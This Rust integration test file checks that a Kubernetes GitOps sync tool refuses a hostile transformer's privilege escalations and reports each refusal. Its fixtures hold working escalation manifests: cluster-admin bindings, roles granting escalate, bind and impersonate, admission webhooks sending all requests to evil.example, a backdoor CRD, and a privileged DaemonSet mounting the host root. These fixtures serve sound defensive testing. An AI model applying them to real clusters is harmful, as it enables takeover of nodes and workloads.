//! The transformer guard on the real API server (issue 24): a hostile
//! transformer (the test policy `test-emitter`, playing whatever its
//! settings say) tries every privilege escalation a transformer could
//! make; the sync refuses them all, naming the policy, the object and the
//! rule, applies nothing, and the unprivileged user it tried to raise has
//! gained nothing. What a transformer may do is shown in the report.

mod reconcile_support;
mod server_support;

use k8s_openapi::api::authorization::v1::{
    ResourceAttributes, SubjectAccessReview, SubjectAccessReviewSpec,
};
use k8s_openapi::api::core::v1::{ConfigMap, Namespace, PersistentVolume};
use kube::api::{Api, DynamicObject, PostParams};
use kube::core::{ApiResource, GroupVersionKind};
use plumbline::reconcile::{Outcome, Status};
use reconcile_support::World;
use serde_json::{json, Value};
use server_support::Server;

/// The Git side: namespace `shop`, a ConfigMap, user `dev` allowed to
/// read its ConfigMaps, and group `shop-admins` allowed to administer it.
const MANIFESTS: &str = "\
apiVersion: v1
kind: Namespace
metadata: {name: shop}
---
apiVersion: v1
kind: ConfigMap
metadata: {name: settings}
data: {mode: fast}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: viewer}
rules: [{apiGroups: [''], resources: [configmaps], verbs: [get, list, watch]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: dev-view}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: viewer}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: dev}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: admins}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: admin}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: Group, name: shop-admins}]
";

fn dev() -> Value {
    json!([{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "dev"}])
}

fn binding(kind: &str, namespace: Option<&str>, name: &str, role: (&str, &str)) -> Value {
    let mut object = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": kind,
        "metadata": {"name": name},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": role.0, "name": role.1},
        "subjects": dev()});
    if let Some(namespace) = namespace {
        object["metadata"]["namespace"] = json!(namespace);
    }
    object
}

fn webhooks(kind: &str, list: &str) -> Value {
    json!({"apiVersion": "admissionregistration.k8s.io/v1", "kind": kind,
        "metadata": {"name": "hostile"},
        list: [{"name": "hostile.evil.example", "sideEffects": "None", "failurePolicy": "Ignore",
            "admissionReviewVersions": ["v1"],
            "clientConfig": {"url": "https://evil.example/hook"},
            "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*/*"]}]}]})
}

/// Every escalation the issue lists, as the emitter's settings.
fn hostile_settings() -> Value {
    json!({
        "add": [
            binding("RoleBinding", Some("shop"), "dev-admin", ("ClusterRole", "cluster-admin")),
            {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
                "metadata": {"name": "escalator", "namespace": "shop"},
                "rules": [{"apiGroups": ["*"], "resources": ["*"],
                    "verbs": ["escalate", "bind", "impersonate"]}]},
            binding("RoleBinding", Some("shop"), "dev-escalator", ("Role", "escalator")),
            binding("ClusterRoleBinding", None, "dev-root", ("ClusterRole", "cluster-admin")),
            webhooks("ValidatingWebhookConfiguration", "webhooks"),
            webhooks("MutatingWebhookConfiguration", "webhooks"),
            {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingAdmissionPolicy",
                "metadata": {"name": "hostile"},
                "spec": {"failurePolicy": "Fail",
                    "matchConstraints": {"resourceRules": [{"apiGroups": ["*"], "apiVersions": ["*"],
                        "operations": ["*"], "resources": ["*"]}]},
                    "validations": [{"expression": "false"}]}},
            {"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition",
                "metadata": {"name": "backdoors.evil.example"},
                "spec": {"group": "evil.example", "scope": "Cluster",
                    "names": {"kind": "Backdoor", "plural": "backdoors"},
                    "versions": [{"name": "v1", "served": true, "storage": true,
                        "schema": {"openAPIV3Schema": {"type": "object"}}}]}},
            {"apiVersion": "apps/v1", "kind": "DaemonSet",
                "metadata": {"name": "node-root", "namespace": "shop"},
                "spec": {"selector": {"matchLabels": {"app": "node-root"}},
                    "template": {"metadata": {"labels": {"app": "node-root"}},
                        "spec": {"hostPID": true, "hostNetwork": true,
                            "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
                            "containers": [{"name": "shell", "image": "busybox",
                                "securityContext": {"privileged": true},
                                "volumeMounts": [{"name": "root", "mountPath": "/host"}]}]}}}},
            {"apiVersion": "v1", "kind": "PersistentVolume", "metadata": {"name": "host-root"},
                "spec": {"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"],
                    "hostPath": {"path": "/"}}},
            {"apiVersion": "v1", "kind": "Namespace",
                "metadata": {"name": "kube-system",
                    "labels": {"pod-security.kubernetes.io/enforce": "privileged"}}},
        ],
        "replace": [
            binding("RoleBinding", Some("shop"), "dev-view", ("ClusterRole", "cluster-admin")),
            {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
                "metadata": {"name": "admins", "namespace": "shop"},
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"},
                "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "shop-admins"},
                    {"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "dev"}]},
        ],
    })
}

/// The sync's spec lines with the emitter as policy `hostile`, with
/// `settings` and the `allow` given (YAML flow, or empty for none).
fn emitter(settings: &Value, allow: &str) -> String {
    let allow = if allow.is_empty() {
        String::new()
    } else {
        format!("      allow: {allow}\n")
    };
    format!(
        "  policies:\n    - name: hostile\n      module: {}\n      settings: {settings}\n{allow}",
        policy_artifacts::TEST_EMITTER
    )
}

/// Whether user `dev` may `verb` `resource` of `group` (in `namespace`),
/// as the API server's authorizer answers.
async fn dev_may(
    world: &World,
    verb: &str,
    group: &str,
    resource: &str,
    namespace: Option<&str>,
) -> bool {
    let review = SubjectAccessReview {
        spec: SubjectAccessReviewSpec {
            user: Some("dev".into()),
            resource_attributes: Some(ResourceAttributes {
                verb: Some(verb.into()),
                group: Some(group.into()),
                resource: Some(resource.into()),
                namespace: namespace.map(str::to_owned),
                ..ResourceAttributes::default()
            }),
            ..SubjectAccessReviewSpec::default()
        },
        ..SubjectAccessReview::default()
    };
    let reviews: Api<SubjectAccessReview> = Api::all(world.client());
    let answer = reviews
        .create(&PostParams::default(), &review)
        .await
        .unwrap();
    answer.status.expect("a reviewed access").allowed
}

/// Whether the cluster has the object of `kind` (`group/version`) named
/// `name` (in `namespace`).
async fn exists(
    world: &World,
    (group, version, kind): (&str, &str, &str),
    namespace: Option<&str>,
    name: &str,
) -> bool {
    let resource = ApiResource::from_gvk(&GroupVersionKind::gvk(group, version, kind));
    let api: Api<DynamicObject> = match namespace {
        Some(namespace) => Api::namespaced_with(world.client(), namespace, &resource),
        None => Api::all_with(world.client(), &resource),
    };
    api.get_opt(name).await.unwrap().is_some()
}

/// Actions `dev` must not gain: bindings, escalation, impersonation,
/// secrets, workloads and namespaces.
const FORBIDDEN: [(&str, &str, &str, Option<&str>); 8] = [
    (
        "create",
        "rbac.authorization.k8s.io",
        "rolebindings",
        Some("shop"),
    ),
    (
        "escalate",
        "rbac.authorization.k8s.io",
        "roles",
        Some("shop"),
    ),
    ("bind", "rbac.authorization.k8s.io", "clusterroles", None),
    ("impersonate", "", "users", None),
    ("get", "", "secrets", Some("shop")),
    ("get", "", "secrets", Some("kube-system")),
    ("create", "apps", "daemonsets", Some("shop")),
    ("delete", "", "namespaces", None),
];

/// Issue 24: every escalation a transformer tried is refused, reported,
/// and not applied; `dev` can still only read `shop`'s ConfigMaps.
async fn a_hostile_transformer_escalates_nothing(server: Server) {
    let world = World::on(server);
    world
        .repo
        .write("shop.yaml", MANIFESTS)
        .commit("shop with a viewer");
    let first = world.reconcile(&world.unit("")).await;
    assert_eq!(first.status, Status::Synced, "{first:#?}");
    // The authorizer learns of bindings through a watch: wait until it
    // knows dev's, so that what it denies later means something.
    let mut views = false;
    for _ in 0..300 {
        views = dev_may(&world, "list", "", "configmaps", Some("shop")).await;
        if views {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert!(views, "dev reads shop's ConfigMaps");
    for (verb, group, resource, namespace) in FORBIDDEN {
        assert!(
            !dev_may(&world, verb, group, resource, namespace).await,
            "before: {verb} {resource}"
        );
    }

    world.requests.reset();
    let report = world
        .reconcile(&world.unit(&emitter(&hostile_settings(), "")))
        .await;
    assert_eq!(report.status, Status::Failed, "{report:#?}");
    // Nothing was sent to be written, so nothing the authorizer has yet
    // to learn of can grant dev more.
    assert_eq!(world.requests.writes(), 0, "nothing is applied");
    assert_eq!(report.errors.len(), 1, "{:#?}", report.errors);
    assert_eq!(report.errors[0].error().reason(), "TransformRefused");
    let message = report.errors[0].to_string();
    for refusal in [
        "transformer hostile added RoleBinding.rbac.authorization.k8s.io shop/dev-admin: kind \
         RoleBinding.rbac.authorization.k8s.io is not in the policy's allow.add",
        "transformer hostile added RoleBinding.rbac.authorization.k8s.io shop/dev-admin: \
         namespace shop is not in the policy's allow.namespaces",
        "transformer hostile added RoleBinding.rbac.authorization.k8s.io shop/dev-admin: roleRef \
         is a rbac edit",
        "transformer hostile added Role.rbac.authorization.k8s.io shop/escalator: rules is a \
         rbac edit",
        "transformer hostile added ClusterRoleBinding.rbac.authorization.k8s.io dev-root: kind",
        "transformer hostile added ValidatingWebhookConfiguration.admissionregistration.k8s.io \
         hostile: the ValidatingWebhookConfiguration is a admission edit",
        "transformer hostile added MutatingWebhookConfiguration.admissionregistration.k8s.io \
         hostile: the MutatingWebhookConfiguration is a admission edit",
        "transformer hostile added ValidatingAdmissionPolicy.admissionregistration.k8s.io \
         hostile: the ValidatingAdmissionPolicy is a admission edit",
        "transformer hostile added CustomResourceDefinition.apiextensions.k8s.io \
         backdoors.evil.example: the CustomResourceDefinition is a api-extensions edit",
        "transformer hostile added DaemonSet.apps shop/node-root: spec.template.spec: container \
         shell: privileged is a privileged-pods edit",
        "transformer hostile added DaemonSet.apps shop/node-root: spec.template.spec: hostPath \
         volume / is a privileged-pods edit",
        "transformer hostile added DaemonSet.apps shop/node-root: spec.template.spec: hostPID is \
         a privileged-pods edit",
        "transformer hostile added PersistentVolume host-root: spec.hostPath is a host-volumes \
         edit",
        "transformer hostile added Namespace kube-system: label \
         pod-security.kubernetes.io/enforce is a namespace-security edit",
        "transformer hostile changed RoleBinding.rbac.authorization.k8s.io shop/dev-view: \
         roleRef is a rbac edit, which is not in the policy's allow.sensitive",
        "transformer hostile changed RoleBinding.rbac.authorization.k8s.io shop/admins: \
         subjects is a rbac edit, which is not in the policy's allow.sensitive",
    ] {
        assert!(message.contains(refusal), "{refusal}\nnot in: {message}");
    }

    // The authorizer agrees: dev has gained nothing.
    for (verb, group, resource, namespace) in FORBIDDEN {
        assert!(
            !dev_may(&world, verb, group, resource, namespace).await,
            "after: {verb} {resource}"
        );
    }
    let admission = "admissionregistration.k8s.io";
    for (gvk, namespace, name) in [
        (
            ("rbac.authorization.k8s.io", "v1", "RoleBinding"),
            Some("shop"),
            "dev-admin",
        ),
        (
            ("rbac.authorization.k8s.io", "v1", "ClusterRoleBinding"),
            None,
            "dev-root",
        ),
        (
            (admission, "v1", "ValidatingWebhookConfiguration"),
            None,
            "hostile",
        ),
        (
            (admission, "v1", "MutatingWebhookConfiguration"),
            None,
            "hostile",
        ),
        (
            (admission, "v1", "ValidatingAdmissionPolicy"),
            None,
            "hostile",
        ),
        (
            ("apiextensions.k8s.io", "v1", "CustomResourceDefinition"),
            None,
            "backdoors.evil.example",
        ),
        (("apps", "v1", "DaemonSet"), Some("shop"), "node-root"),
    ] {
        assert!(
            !exists(&world, gvk, namespace, name).await,
            "{gvk:?} {name}"
        );
    }
    let volumes: Api<PersistentVolume> = Api::all(world.client());
    assert!(volumes.get_opt("host-root").await.unwrap().is_none());
    let namespaces: Api<Namespace> = Api::all(world.client());
    let system = namespaces.get("kube-system").await.unwrap();
    assert!(
        !system
            .metadata
            .labels
            .unwrap_or_default()
            .contains_key("pod-security.kubernetes.io/enforce"),
        "kube-system keeps its labels"
    );
}

/// What a policy's `allow` lists, its transformer may do, and the report
/// shows what it did; anything beyond is still refused.
async fn an_allowed_transformer_is_shown_and_kept_to_its_allowance(server: Server) {
    let world = World::on(server);
    world.repo.write("shop.yaml", MANIFESTS).commit("shop");
    let extra = |name: &str| {
        json!({"apiVersion": "v1", "kind": "ConfigMap",
            "metadata": {"name": name, "namespace": "shop"}, "data": {"added": "yes"}})
    };
    let settings = json!({"add": [extra("extra")], "remove": ["admins"]});
    let allow = "{add: [{kind: ConfigMap}], namespaces: [shop]}";
    let report = world
        .reconcile(&world.unit(&emitter(&settings, allow)))
        .await;
    assert_eq!(report.status, Status::Synced, "{report:#?}");
    assert_eq!(report.count(&Outcome::Created), 5, "{report:#?}");
    let shown: Vec<String> = report
        .transformers
        .iter()
        .map(ToString::to_string)
        .collect();
    assert_eq!(
        shown,
        ["policy hostile added 1, removed 1, changed 0 objects"]
    );
    assert_eq!(report.transformers[0].added, ["ConfigMap shop/extra"]);
    assert_eq!(
        report.transformers[0].removed,
        ["RoleBinding.rbac.authorization.k8s.io shop/admins"]
    );
    let config_maps: Api<ConfigMap> = Api::namespaced(world.client(), "shop");
    assert!(config_maps.get_opt("extra").await.unwrap().is_some());

    // The same allowance does not stretch to another namespace or kind.
    let mut outside = extra("outside");
    outside["metadata"]["namespace"] = json!("default");
    let secret = json!({"apiVersion": "v1", "kind": "Secret",
        "metadata": {"name": "s", "namespace": "shop"}});
    let settings = json!({"add": [outside, secret]});
    world.requests.reset();
    let refused = world
        .reconcile(&world.unit(&emitter(&settings, allow)))
        .await;
    assert_eq!(refused.status, Status::Failed, "{refused:#?}");
    assert_eq!(world.requests.writes(), 0, "nothing is applied");
    let message = refused.errors[0].to_string();
    assert!(
        message.contains(
            "transformer hostile added ConfigMap default/outside: namespace default is not in \
             the policy's allow.namespaces"
        ) && message.contains(
            "transformer hostile added Secret shop/s: kind Secret is not in the policy's \
             allow.add (add {kind: Secret})"
        ),
        "{message}"
    );
}

on_real_server!(
    a_hostile_transformer_escalates_nothing,
    an_allowed_transformer_is_shown_and_kept_to_its_allowance,
);
